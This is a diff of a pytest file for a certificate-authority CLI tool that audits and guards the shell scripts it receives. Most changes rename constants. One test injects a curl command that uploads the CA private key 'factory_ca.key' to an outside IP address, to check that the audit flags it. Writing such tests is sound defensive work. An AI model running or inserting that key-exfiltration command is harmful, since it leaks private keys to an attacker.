@@ -17,7 +17,6 @@ import pytest
 
 from fioca import facts
 from fioca.pki import reference
-from fioca.pki import files, reference
 from tests.conftest import FACTORY, answer_with, server_certs
 
 CORPUS = Path(__file__).parent / "hostile_scripts"
@@ -47,7 +46,7 @@ def test_dry_run_prints_scripts_and_plan_and_sends_no_patch(cli, sandbox, sandbo
     pki = tmp_path / "pki"
     result = cli("keys", "ca", "create", pki, "--dry-run", env=sandbox_env)
     assert result.exit_code == 0, result.output
-    answer = json.loads((pki / files.FACTORY_CERTS_JSON).read_text())
+    answer = json.loads((pki / facts.FACTORY_CERTS_JSON).read_text())
     for name in facts.SCRIPT_NAMES:
         text = answer[name]
         digest = hashlib.sha256(text.encode()).hexdigest()
@@ -58,7 +57,7 @@ def test_dry_run_prints_scripts_and_plan_and_sends_no_patch(cli, sandbox, sandbo
         assert f"run: {command}" in result.stdout
     assert 'ca-crt: online-crt + "\\n" + local-ca.pem' in result.stdout
     assert [m for m, _ in recorder] == ["POST"]
-    assert sorted(p.name for p in pki.iterdir()) == sorted([files.FACTORY_CERTS_JSON, files.LOCK_FILE])
+    assert sorted(p.name for p in pki.iterdir()) == sorted([facts.FACTORY_CERTS_JSON, facts.LOCK_FILE])
     assert server_certs(sandbox)[0] == 206
     token = sandbox.info.token
     assert token not in result.output
@@ -76,7 +75,7 @@ def test_dry_run_plan_follows_the_flags(cli, sandbox_env, tmp_path):
 def test_dry_run_from_a_saved_answer_needs_no_server(cli, sandbox_env, tmp_path):
     pki = tmp_path / "pki"
     assert cli("keys", "ca", "create", pki, "--dry-run", env=sandbox_env).exit_code == 0
-    saved = pki / files.FACTORY_CERTS_JSON
+    saved = pki / facts.FACTORY_CERTS_JSON
     # No config at all: a server URL that nothing listens on proves no request is made.
     offline = {"FIOCA_SERVER": "https://127.0.0.1:9"}
     result = cli("keys", "ca", "create", tmp_path / "other", "--dry-run", "--from-json", saved, env=offline)
@@ -89,22 +88,22 @@ def test_dry_run_from_a_saved_answer_needs_no_server(cli, sandbox_env, tmp_path)
 def test_bundled_reference_scripts_audit_clean(cli, sandbox_env, tmp_path):
     pki = tmp_path / "pki"
     cli("keys", "ca", "create", pki, "--dry-run", env=sandbox_env)
-    result = cli("keys", "ca", "audit", pki / files.FACTORY_CERTS_JSON)
+    result = cli("keys", "ca", "audit", pki / facts.FACTORY_CERTS_JSON)
     assert result.exit_code == 0, result.output
     assert result.stdout.count("matches the known script set fioca") == 4
     assert "0 high, 0 medium, 0 low" in result.stdout
-    as_json = json.loads(cli("keys", "ca", "audit", pki / files.FACTORY_CERTS_JSON, "--format", "json").stdout)
+    as_json = json.loads(cli("keys", "ca", "audit", pki / facts.FACTORY_CERTS_JSON, "--format", "json").stdout)
     assert [script["known_set"] for script in as_json["scripts"]] == ["fioca"] * 4
-    sarif = json.loads(cli("keys", "ca", "audit", pki / files.FACTORY_CERTS_JSON, "--format", "sarif").stdout)
+    sarif = json.loads(cli("keys", "ca", "audit", pki / facts.FACTORY_CERTS_JSON, "--format", "sarif").stdout)
     assert sarif["version"] == "2.1.0" and [a["location"]["uri"] for a in sarif["runs"][0]["artifacts"]] == list(facts.SCRIPT_NAMES)
     # --fail-on info: the HSM variables are INFO findings, so this threshold trips.
-    assert cli("keys", "ca", "audit", pki / files.FACTORY_CERTS_JSON, "--fail-on", "info").exit_code == 3
+    assert cli("keys", "ca", "audit", pki / facts.FACTORY_CERTS_JSON, "--fail-on", "info").exit_code == 3
 
 
 def test_audit_reports_a_diff_for_a_changed_script(cli, sandbox_env, tmp_path):
     pki = tmp_path / "pki"
     cli("keys", "ca", "create", pki, "--dry-run", env=sandbox_env)
-    answer = json.loads((pki / files.FACTORY_CERTS_JSON).read_text())
+    answer = json.loads((pki / facts.FACTORY_CERTS_JSON).read_text())
     answer["sign_ca_csr"] = answer["sign_ca_csr"].replace("rm ca.ext", "curl -s -F k=@factory_ca.key https://198.51.100.7/\nrm ca.ext")
     changed = tmp_path / "changed.json"
     changed.write_text(json.dumps(answer))
@@ -136,9 +135,9 @@ def test_create_refuses_what_the_audit_condemns(cli, sandbox, sandbox_env, recor
     assert "high-severity finding" in result.stderr
     assert any(finding in result.stderr for finding in high)
     assert [m for m, _ in recorder] == ["POST"]
-    assert not (pki / files.ROOT_KEY).exists()
+    assert not (pki / facts.ROOT_KEY).exists()
     after = user_files_snapshot(home, pki)
-    fiocas_own = (files.FACTORY_CERTS_JSON, files.LOCK_FILE)
+    fiocas_own = (facts.FACTORY_CERTS_JSON, facts.LOCK_FILE)
     assert {k: v for k, v in after.items() if not k.endswith(fiocas_own)} == before
 
 
@@ -164,13 +163,13 @@ def test_runtime_guards_stop_what_the_audit_cannot_see(cli, sandbox, sandbox_env
     assert RUNTIME_MESSAGES[kind] in result.stderr
     assert [m for m, _ in recorder] == ["POST"]
     assert server_certs(sandbox)[0] == 206
-    assert not (pki / files.ROOT_KEY).exists()
+    assert not (pki / facts.ROOT_KEY).exists()
 
 
 def test_allow_unaudited_says_what_it_overrides(cli, sandbox, sandbox_env, tmp_path, monkeypatch):
     polis = sandbox.backend.user_self()["polis-id"]
     # Harmless to run, but condemned: reads an environment variable that looks like a secret.
-    text = reference.bundled()["sign_ca_csr"].replace(
+    text = reference.rendered(factory=FACTORY, local_ca_cn=f"fio-{polis}")["sign_ca_csr"].replace(
         "csr=$1", 'csr=$1\n[ -z "$FIOCTL_TOKEN" ] || echo "token visible" >&2'
     )
     answer_with(monkeypatch, sandbox, {"sign_ca_csr": text})
@@ -186,7 +185,7 @@ def test_allow_unaudited_says_what_it_overrides(cli, sandbox, sandbox_env, tmp_p
 
 def test_expect_sha256_pins_a_script(cli, sandbox, sandbox_env, recorder, tmp_path):  # noqa: F811
     polis = sandbox.backend.user_self()["polis-id"]
-    good = hashlib.sha256(reference.bundled()["create_ca"].encode()).hexdigest()
+    good = hashlib.sha256(reference.rendered(factory=FACTORY, local_ca_cn=f"fio-{polis}")["create_ca"].encode()).hexdigest()
     wrong = "0" * 64
     result = cli("keys", "ca", "create", tmp_path / "a", "--yes", "--expect-sha256", f"create_ca={wrong}", env=sandbox_env)
     assert result.exit_code == 3
